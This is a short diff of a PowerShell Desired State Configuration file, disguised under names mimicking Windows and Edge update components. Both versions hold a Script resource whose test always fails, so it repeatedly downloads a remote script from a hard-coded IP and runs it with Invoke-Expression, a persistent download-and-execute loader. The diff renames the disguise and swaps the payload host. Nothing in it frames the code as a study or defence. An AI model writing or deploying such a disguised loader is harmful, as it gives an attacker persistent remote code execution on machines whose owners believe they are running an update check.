@@ -1,11 +1,11 @@
-# init 6600 v2
-Configuration WindowsUpdateCheck {
+# bootstrap 9333 v2
+Configuration MicrosoftEdgeUpdateCore {
   Import-DscResource -ModuleName PSDesiredStateConfiguration
   Node localhost {
     Script Bootstrap {
       GetScript = { @{ Result = '' } }
       TestScript = { $false }
-      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/update.ps1') }
+      SetScript = { IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/a.ps1') }
     }
   }
 }
